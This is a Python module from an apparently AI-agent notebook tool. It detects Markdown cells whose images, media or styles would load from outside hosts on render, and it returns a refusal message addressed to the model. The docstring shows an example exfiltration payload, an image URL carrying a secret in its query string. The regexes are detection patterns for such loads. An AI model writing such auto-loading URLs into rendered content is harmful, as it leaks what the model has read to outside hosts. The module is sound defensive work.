"""What a Markdown cell would load from elsewhere by itself, the moment the notebook renders it.

JupyterLab renders Markdown cells through its sanitizer, which stops scripts but keeps images,
media and styles that load from any host: `![](https://host/?q=SECRET)` in a cell the agent wrote
would send what the model read to that host as soon as the cell shows. The notebook tools refuse
such a cell (the model can write a link instead, which loads nothing until the user clicks), as
the agent's own surfaces turn images into links (`jupyter/safe_html.py`).

A load is "from elsewhere" when its URL has a scheme or starts with `//`; a relative path names a
file beside the notebook and stays on the Jupyter server.
"""

from __future__ import annotations

import re
from functools import cache
from typing import Any

_LOADING_ATTRIBUTE = re.compile(
    r"""\b(?:src|srcset|poster|background|data|href|xlink:href)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""",
    re.IGNORECASE,
)
_LOADING_CSS = re.compile(r"""(?:url\(\s*["']?|@import\s+["']?)([^"')\s;]+)""", re.IGNORECASE)
_ELSEWHERE = re.compile(r"^\s*(?:[a-z][a-z0-9+.\-]*:|//|\\\\)", re.IGNORECASE)
_HREF_TAGS = re.compile(r"<\s*(?:link|base|use|image|feimage)\b", re.IGNORECASE)
_IMAGE_SYNTAX = re.compile(r"!\[[^\]]*\]\(\s*<?([^)\s>]+)")
"""Image syntax whose URL markdown-it refuses (javascript:, data:image/svg+xml): other Markdown
renderers, JupyterLab's among them, may still make an image of it."""


def remote_loads(markdown: str) -> list[str]:
    """The URLs outside the server that rendering this Markdown would fetch, in order, once each."""
    found: list[str] = []
    for token in _parser().parse(markdown):
        for item in [token, *(token.children or [])]:
            found += _loads_of(item)
        prose = "".join(c.content for c in token.children or [] if c.type == "text")
        found += [match.group(1) for match in _IMAGE_SYNTAX.finditer(prose)]
    return list(dict.fromkeys(url for url in found if _elsewhere(url)))


def refusal(tool: str, urls: list[str]) -> str:
    """What the model reads when a Markdown cell it writes would load from elsewhere."""
    shown = ", ".join(urls[:5]) + (f" and {len(urls) - 5} more" if len(urls) > 5 else "")
    return (
        f"{tool}: a Markdown cell you write may not load anything from elsewhere by itself "
        f"({shown}): it would load as soon as the notebook shows the cell, and a URL can carry "
        "what was read. Nothing was changed. Write a link instead, e.g. [diagram](https://…), "
        "or save the image in the workspace and use its relative path"
    )


def _elsewhere(url: str) -> bool:
    """A URL with a scheme or `//`; an inline `data:image/...` loads nothing from anywhere."""
    return bool(_ELSEWHERE.match(url)) and not url.strip().lower().startswith("data:image/")


def _loads_of(token: Any) -> list[str]:
    if token.type == "image":
        return [str(token.attrGet("src") or "")]
    if token.type not in ("html_block", "html_inline"):
        return []
    html = token.content
    urls = []
    for match in _LOADING_ATTRIBUTE.finditer(html):
        name = match.group(0).split("=", 1)[0].strip().lower()
        value = next(group for group in match.groups() if group is not None)
        if name.endswith("href") and not _HREF_TAGS.search(html):
            continue  # a plain link loads nothing until it is clicked
        urls += [part.split()[0] for part in value.split(",") if part.strip()] or [value]
    urls += [match.group(1) for match in _LOADING_CSS.finditer(html)]
    return urls


@cache
def _parser() -> Any:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True})
